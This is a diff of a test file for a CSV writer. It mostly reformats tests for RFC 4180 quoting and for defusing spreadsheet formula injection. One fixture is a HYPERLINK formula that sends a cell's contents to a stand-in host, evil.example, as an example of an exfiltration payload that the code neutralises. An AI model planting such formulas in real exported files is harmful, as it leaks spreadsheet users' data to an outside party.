@@ -12,13 +12,26 @@ describe("csvField: RFC 4180 quoting", () => {
   ])("%j → %j", (raw, written) => expect(csvField(raw)).toBe(written));
 
   it("writes numbers and booleans bare, negative numbers included, and missing values empty", () => {
-    expect([-0.5, 0, 1e-7, true, false, null, undefined, Number.NaN, Infinity].map(csvField)).toEqual(["-0.5", "0", "1e-7", "true", "false", "", "", "", ""]);
+    expect([-0.5, 0, 1e-7, true, false, null, undefined, Number.NaN, Infinity].map(csvField)).toEqual([
+      "-0.5",
+      "0",
+      "1e-7",
+      "true",
+      "false",
+      "",
+      "",
+      "",
+      "",
+    ]);
   });
 });
 
 describe("csvField: formula injection (OWASP)", () => {
   it.each([
-    ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`],
+    [
+      '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+      `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`,
+    ],
     ["=1+1", "'=1+1"],
     ["+41 44 123", "'+41 44 123"],
     ["-2+3", "'-2+3"],
@@ -37,7 +50,13 @@ describe("csvField: formula injection (OWASP)", () => {
 
 describe("toCsv", () => {
   it("writes a header and one CRLF-terminated line per row", () => {
-    const csv = toCsv(["a", "b", "c"], [["x,y", 'say "hi"', -0.5], ["=HYPERLINK(1)", null, Number.NaN]]);
+    const csv = toCsv(
+      ["a", "b", "c"],
+      [
+        ["x,y", 'say "hi"', -0.5],
+        ["=HYPERLINK(1)", null, Number.NaN],
+      ],
+    );
     expect(csv).toBe('a,b,c\r\n"x,y","say ""hi""",-0.5\r\n\'=HYPERLINK(1),,\r\n');
   });
 
